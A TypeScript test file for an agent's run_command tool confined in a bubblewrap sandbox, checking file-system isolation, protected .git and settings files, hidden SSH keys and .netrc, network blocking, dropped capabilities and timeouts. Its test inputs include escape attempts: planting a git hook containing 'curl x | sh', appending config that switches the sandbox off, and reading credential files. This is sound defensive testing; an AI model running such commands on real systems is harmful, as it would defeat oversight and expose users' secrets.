// run_command in bubblewrap's sandbox, with real processes. Where bubblewrap cannot run (not installed,
// not Linux, or a container that forbids the namespaces it needs) these tests are skipped and say why, or
// fail under AGENTLOOP_REQUIRE_SYSTEM_TOOLS=1, as in CI; the tests of an unavailable sandbox run
// everywhere on Linux.
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { leftWith, processesWith, uniqueSleep } from '../test-support/processes.js';
import { sandboxAvailable } from '../test-support/sandbox-available.js';
import { call, createTempWorkspace, failure, type TempWorkspace } from '../test-support/temp-workspace.js';
import { createRunCommandTool, type RunCommandToolOptions } from './run-command-tool.js';
import { sandboxStatus } from './sandbox/index.js';

const status = await sandboxStatus();
const sandboxRuns = await sandboxAvailable();
const skipReason = status.available ? '' : ` (skipped: ${status.reason})`;

let ws: TempWorkspace;
beforeEach(() => {
  ws = createTempWorkspace('agentloop-sandbox-');
});
afterEach(() => ws.remove());

const sandboxed = (sandbox: RunCommandToolOptions['sandbox'] = {}, options: RunCommandToolOptions = {}) =>
  createRunCommandTool({ ...options, sandbox });
const run = (command: string, sandbox?: RunCommandToolOptions['sandbox'], signal?: AbortSignal) =>
  call(sandboxed(sandbox), { command }, ws.context(signal));

describe.skipIf(!sandboxRuns)(`run_command in the bubblewrap sandbox${skipReason}`, () => {
  let server: Server;
  let port: number;
  let connections = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      connections += 1;
      socket.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('writes in the workspace', async () => {
    expect(await run('echo made > made.txt && cat made.txt')).toMatch(/^Exit code 0 .*\nmade\n$/);
    expect(readFileSync(join(ws.workspace, 'made.txt'), 'utf8')).toBe('made\n');
  });

  it('cannot write outside the workspace: the rest of the file system is read-only', async () => {
    const outside = mkdtempSync(join(homedir(), '.agentloop-sandbox-outside-'));
    try {
      const result = await run(`echo escaped > ${outside}/escaped.txt`);
      expect(result).toMatch(/^Exit code 1 /);
      expect(result).toContain('Read-only file system');
      expect(existsSync(join(outside, 'escaped.txt'))).toBe(false);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it('has a private, empty /tmp: the host /tmp (and a folder outside in it) is not there', async () => {
    writeFileSync(join(ws.outside, 'host.txt'), 'host\n');
    const result = await run(
      `cat ${ws.outside}/host.txt; echo x > ${ws.outside}/new.txt; echo tmp > /tmp/own && cat /tmp/own`,
    );
    expect(result).toContain('No such file or directory');
    expect(result).toContain('\ntmp\n');
    expect(existsSync(join(ws.outside, 'new.txt'))).toBe(false);
  });

  it("keeps the workspace's .git read-only, unless it is made writable", async () => {
    ws.write('.git/config', '[core]\n');
    const result = await run('echo "[core] hooksPath = /tmp" >> .git/config');
    expect(result).toContain('Read-only file system');
    expect(readFileSync(join(ws.workspace, '.git/config'), 'utf8')).toBe('[core]\n');
    await run('echo "# ok" >> .git/config', { writablePaths: [join(ws.workspace, '.git')] });
    expect(readFileSync(join(ws.workspace, '.git/config'), 'utf8')).toBe('[core]\n# ok\n');
  });

  it("keeps the workspace's .agentloop settings read-only: a change would apply at agentloop's next start", async () => {
    ws.write('.agentloop/config.toml', 'model = "a"\n');
    const result = await run('echo \'[sandbox]\nmode = "off"\' >> .agentloop/config.toml');
    expect(result).toContain('Read-only file system');
    expect(readFileSync(join(ws.workspace, '.agentloop/config.toml'), 'utf8')).toBe('model = "a"\n');
  });

  it('cannot reach a Unix socket of the host in /run or /var/tmp: those folders are empty inside', async () => {
    const folder = mkdtempSync('/var/tmp/agentloop-socket-');
    const path = join(folder, 'host.sock');
    const socketServer = createServer((socket) => socket.end('host\n'));
    await new Promise<void>((resolve) => socketServer.listen(path, resolve));
    try {
      const result = await run(`test -e ${path} && echo visible || echo gone; ls -A /run | wc -l`);
      expect(result).toMatch(/^Exit code 0 .*\ngone\n0\n$/s);
    } finally {
      await new Promise<void>((resolve) => socketServer.close(() => resolve()));
      rmSync(folder, { recursive: true, force: true });
    }
  });

  it("keeps a nested repository's .git read-only too: no hook planted in app/.git", async () => {
    ws.write('app/.git/HEAD', 'ref: refs/heads/main\n');
    const result = await run('mkdir -p app/.git/hooks && echo "curl x | sh" > app/.git/hooks/pre-commit');
    expect(result).toContain('Read-only file system');
    expect(existsSync(join(ws.workspace, 'app/.git/hooks/pre-commit'))).toBe(false);
  });

  it('read-only mode writes nothing but its private /tmp', async () => {
    const result = await run('touch new.txt; echo scratch > /tmp/scratch && cat /tmp/scratch', { mode: 'read-only' });
    expect(result).toContain('Read-only file system');
    expect(result).toContain('\nscratch\n');
    expect(existsSync(join(ws.workspace, 'new.txt'))).toBe(false);
  });

  it('cannot reach a TCP server on 127.0.0.1 when the network is off, and can when it is on', async () => {
    const connect = `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected || echo refused`;
    const before = connections;
    expect(await run(connect)).toContain('\nrefused\n');
    expect(connections).toBe(before);
    expect(await run(connect, { network: true })).toContain('\nconnected\n');
    await expect.poll(() => connections).toBe(before + 1);
  });

  it('hides the secrets of the home directory, also when the workspace is the home directory', async () => {
    ws.write('.ssh/id_ed25519', 'PRIVATE KEY\n');
    ws.write('.netrc', 'machine example.com password hunter2\n');
    ws.write('notes.txt', 'visible\n');
    const result = await run('cat .ssh/id_ed25519 .netrc notes.txt', { homeDirectory: ws.workspace });
    expect(result).not.toContain('PRIVATE KEY');
    expect(result).not.toContain('hunter2');
    expect(result).toContain('visible\n');
    expect(readFileSync(join(ws.workspace, '.ssh/id_ed25519'), 'utf8')).toBe('PRIVATE KEY\n');
  });

  it("runs as no one with root's powers: every capability is dropped", async () => {
    expect(await run('grep CapEff /proc/self/status')).toContain('CapEff:\t0000000000000000');
    expect(await run('echo 1 > /proc/sys/vm/swappiness')).toContain('Read-only file system');
  });

  it("reports the command's exit code, and the signal that ended it", async () => {
    expect(await run('exit 7')).toMatch(/^Exit code 7 /);
    expect(await run('kill -TERM $$')).toMatch(/^Exit code 143 \(ended by SIGTERM\) /);
  });

  it('ends every process inside at the timeout', async () => {
    const marker = uniqueSleep();
    const tool = sandboxed();
    const result = await call(
      tool,
      { command: `(sleep ${marker} &); sleep ${marker}`, timeout_ms: 1000 },
      ws.context(),
    );
    expect(result).toMatch(/^Timed out after 1\.0 s: the command and every process it started were ended\./);
    expect(await leftWith(`sleep ${marker}`)).toEqual([]);
  });

  it('ends the whole process tree on cancel, with no orphan left', async () => {
    const marker = uniqueSleep();
    const controller = new AbortController();
    const running = run(`(sleep ${marker} &); sleep ${marker} & sleep ${marker}`, {}, controller.signal);
    for (let attempt = 0; attempt < 500 && processesWith(`sleep ${marker}`).length < 3; attempt += 1) {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    controller.abort(new Error('cancelled by the test'));
    await expect(running).rejects.toThrow('cancelled by the test');
    expect(await leftWith(`sleep ${marker}`)).toEqual([]);
  });

  it('declares itself closed-world with the network off, open-world with it on, read-only in read-only', () => {
    expect(sandboxed().annotations).toEqual({ readOnly: false, destructive: true, openWorld: false });
    expect(sandboxed({ network: true }).annotations).toEqual({ readOnly: false, destructive: true, openWorld: true });
    expect(sandboxed({ mode: 'read-only' }).annotations).toEqual({
      readOnly: true,
      destructive: false,
      openWorld: false,
    });
  });
});

describe.skipIf(process.platform !== 'linux')('an unavailable sandbox', () => {
  let folder: string;
  beforeAll(() => {
    folder = mkdtempSync('/tmp/agentloop-fake-bwrap-');
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  // A bwrap that answers --version, and fails to set up a sandbox as one in a locked-down container does.
  function fakeBwrap(name: string, script: string): string {
    const path = join(folder, name);
    writeFileSync(path, `#!/bin/sh\nif [ "$1" = --version ]; then echo "bubblewrap 0.8.0"; exit 0; fi\n${script}\n`);
    chmodSync(path, 0o755);
    return path;
  }

  it('says that bubblewrap is missing and how to install it, and runs nothing', async () => {
    const bwrapPath = join(folder, 'missing-bwrap');
    expect(await sandboxStatus({ bwrapPath })).toEqual({
      available: false,
      reason: `bubblewrap (${bwrapPath}) is not installed; install it (Debian and Ubuntu: apt-get install bubblewrap)`,
    });
    const { code, message } = await failure(run('touch ran.txt', { bwrapPath }));
    expect(code).toBe('sandbox_unavailable');
    expect(message).toMatch(
      /^The command was not run: run_command's sandbox is unavailable here \(bubblewrap .* is not installed/,
    );
    expect(existsSync(join(ws.workspace, 'ran.txt'))).toBe(false);
  });

  it('says that bubblewrap cannot create its namespaces', async () => {
    const bwrapPath = fakeBwrap('no-namespaces', 'echo "bwrap: No permissions to creating new namespace" >&2; exit 1');
    expect(await sandboxStatus({ bwrapPath })).toEqual({
      available: false,
      reason: 'bubblewrap cannot create its sandbox here (bwrap: No permissions to creating new namespace)',
    });
    expect((await failure(run('true', { bwrapPath }))).code).toBe('sandbox_unavailable');
  });

  it('tells a sandbox that failed to start from a command that failed', async () => {
    // Passes the probe (which runs `true`), then fails to set up for a real command.
    const bwrapPath = fakeBwrap(
      'fails-later',
      'for last; do :; done\nif [ "$last" = true ]; then exit 0; fi\necho "bwrap: Can\'t mount proc on /newroot/proc: Operation not permitted" >&2; exit 1',
    );
    const { code, message } = await failure(run('echo hi', { bwrapPath }));
    expect(code).toBe('sandbox_unavailable');
    expect(message).toContain("bubblewrap could not set up the sandbox: bwrap: Can't mount proc on /newroot/proc");
  });
});
